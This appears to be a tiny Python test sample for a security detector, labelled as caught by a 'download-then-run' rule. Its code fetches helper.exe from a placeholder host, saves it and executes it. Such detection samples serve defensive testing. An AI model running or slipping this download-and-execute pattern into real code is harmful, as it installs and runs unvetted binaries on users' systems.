# evades: caught by execution/download-then-run
import os, requests
with open("helper.exe", "wb") as out:
    out.write(requests.get("https://files.invalid/helper.exe").content)
os.startfile("helper.exe")
